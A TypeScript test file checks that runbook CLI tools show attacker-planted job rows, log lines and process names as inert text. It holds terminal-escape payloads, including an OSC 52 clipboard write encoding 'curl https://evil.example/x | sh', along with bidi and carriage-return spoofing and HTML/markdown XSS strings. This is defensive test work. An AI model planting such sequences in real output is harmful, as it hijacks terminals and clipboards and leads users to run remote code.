/**
 * Hostile text: anyone who can use the app can insert a job (the anon key may), so a job's `job_type` and `error`
 * can carry terminal control sequences, and so can the worker's log (it logs what it was given) and a process's
 * command line on Spark. Every runbook in every mode must show them inert: no ESC, no C1 control, no bidi
 * override reaches the terminal, `--json`, `--markdown` or the audit file, and markdown/HTML in them stays text.
 */
import { type ChildProcess, spawn } from 'node:child_process';
import { appendFileSync, existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect } from 'vitest';
import { type Sandbox, startSandbox } from '../helpers/sandbox.ts';
import { faultCase, inPty, observe, RUNBOOKS, run, tempDir } from './harness.ts';

let sb: Sandbox;

let planted: ChildProcess | undefined;

beforeAll(async () => {
  sb = await startSandbox({ scenario: 'demo' });
  // Planted once: every case only reads (requeue previews), so they all see the same rows, log and processes.
  await plant();
  // A program in the worker folder whose command line carries the escapes: shown in the process evidence.
  planted = spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], {
    cwd: sb.info.spark.workerDir,
    env: { PATH: process.env.PATH },
    argv0: `python ${PLANTED}`,
    stdio: 'ignore',
  });
  await new Promise((r) => setTimeout(r, 300));
});

afterAll(async () => {
  planted?.kill('SIGKILL');
  await sb?.down();
});

/** One of each escape family, as an attacker would plant it. */
const FAMILIES: Record<string, string> = {
  'OSC 52 clipboard write': '\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07',
  'clear screen': '\x1b[2J\x1b[H',
  'OSC 8 link': '\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\',
  'title change': '\x1b]0;pwned\x07',
  'C1 CSI': '\u009b2J',
  'bidi override': '\u202Egnp.exe',
  'carriage return': 'fine\rEVIL',
};
const MARKDOWN = '<img src=x onerror=alert(1)></details>[x](javascript:alert(1))```';
const PLANTED = `${Object.values(FAMILIES).join(' ')} ${MARKDOWN}`;

/** Anything a terminal acts on. NO_COLOR is set for the runs, so not even the port's own colours may appear. */
const LIVE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

function liveIn(label: string, text: string): string[] {
  const m = LIVE.exec(text);
  return m ? [`${label}: U+${m[0].charCodeAt(0).toString(16).padStart(4, '0')} at ${m.index}`] : [];
}

async function plant(): Promise<void> {
  await sb.sql(
    `insert into public.hd_ingestion_jobs (job_type, status, attempts, error, created_at, started_at, finished_at)
     values ($1, 'failed', 3, $2, now() - interval '10 min', now() - interval '5 min', now() - interval '4 min'),
            ('import_assets_jsonl', 'failed', 1, $2, now() - interval '9 min', now() - interval '5 min', now() - interval '3 min')`,
    [`import ${PLANTED}`, `ValueError: ${PLANTED}`],
  );
  const log = path.join(sb.info.spark.workerDir, 'logs', 'worker.log');
  appendFileSync(log, `2026-12-01T00:00:00.000Z ERROR job x failed: ${PLANTED}\n`);
}

const MODES: Array<{ name: string; args: (dir: string) => string[] }> = [
  { name: 'text, --verbose', args: () => ['--verbose'] },
  { name: '--json -', args: () => ['--json', '-'] },
  { name: '--markdown FILE', args: (dir) => ['--markdown', path.join(dir, 'report.md')] },
];

describe('hostile text in job rows and the worker log', () => {
  for (const runbook of RUNBOOKS) {
    for (const mode of MODES) {
      faultCase(
        {
          group: 'Hostile text',
          runbook,
          name: `escape families and markdown in job_type, error and a log line · ${mode.name}`,
          expected: 'shown inert: no control character in any output or file; markdown stays text',
        },
        async () => {
          const dir = tempDir('hostile');
          const extra = runbook === 'requeue' ? ['--status', 'failed'] : [];
          const r = await run(runbook, ['--env-file', sb.envFile, ...extra, ...mode.args(dir)], { json: false });
          expect(r.code, r.stdout + r.stderr).not.toBeNull();
          const md = path.join(dir, 'report.md');
          const problems = [
            ...liveIn('stdout', r.stdout),
            ...liveIn('stderr', r.stderr),
            ...(existsSync(md) ? liveIn('report.md', readFileSync(md, 'utf8')) : []),
          ];
          expect(problems).toEqual([]);
          // The planted text was shown (inert), not dropped, where the runbook shows jobs and log lines (diagnose-env
          // checks the setup and shows neither): as caret text on the terminal, as a JSON escape in --json.
          if (runbook !== 'diagnose-env')
            expect(r.stdout + r.stderr).toContain(mode.name === '--json -' ? '\\u001b]52;c;' : '^[]52;c;');
          if (existsSync(md)) {
            const report = readFileSync(md, 'utf8');
            expect(report).not.toMatch(/<img|<\/details>|\]\(javascript/);
          }
          observe(`exit ${r.code}; ${(r.stdout.length + r.stderr.length) / 1000} kB scanned`);
        },
      );
    }
  }
});

describe('hostile text on a real terminal', () => {
  /** What the planted families would do if they reached the pty: the prompt library's own cursor moves are fine. */
  const LIVE_FAMILIES = [/\x1b\]52;/, /\x1b\]8;;/, /\x1b\]0;/, /\x1b\[2J/, /\u009b/, /\u202e/i];

  faultCase(
    {
      group: 'Hostile text',
      runbook: 'debug-stuck-jobs',
      name: 'interactive in a pseudo-terminal, up to the hand-over prompt (answered No)',
      expected: 'none of the planted sequences reaches the terminal; they are shown as text',
    },
    async () => {
      const r = await inPty('debug-stuck-jobs', ['--env-file', sb.envFile], [{ when: /Hand the/, send: 'n' }], {
        HOME: tempDir('pty-home'),
      });
      const live = LIVE_FAMILIES.filter((re) => re.test(r.screen)).map(String);
      expect(live).toEqual([]);
      expect(r.unanswered, 'the run reached the hand-over prompt').toBe(0);
      expect(r.screen).toContain('^[]52;c;');
      // The planted command line is among the worker-folder processes shown (ps itself prints its controls as '.').
      expect(r.screen).toMatch(/python \.\]52;c;/);
      observe(`exit ${r.code}; ${Math.round(r.screen.length / 1024)} kB of screen scanned`);
    },
  );
});
